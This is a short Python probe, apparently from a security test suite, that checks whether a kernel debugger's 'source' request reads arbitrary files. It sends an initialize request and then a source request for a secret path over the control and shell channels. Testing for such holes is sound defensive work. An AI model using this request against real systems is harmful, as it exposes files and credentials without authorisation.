"""P2: the debugger's source request reads any file."""

ALONE = True


CLIENT = {
    "clientID": "t",
    "adapterID": "",
    "pathFormat": "path",
    "linesStartAt1": True,
    "columnsStartAt1": True,
}


def attack(door):
    for channel in ("control", "shell"):
        door.ask(
            "debug_request", channel, type="request", seq=1, command="initialize", arguments=CLIENT
        )
        request = {
            "type": "request",
            "seq": 2,
            "command": "source",
            "arguments": {"source": {"path": door.secret}},
        }
        reply = door.ask("debug_request", channel, **request)
        if door.token in str(reply):
            return True
    return False
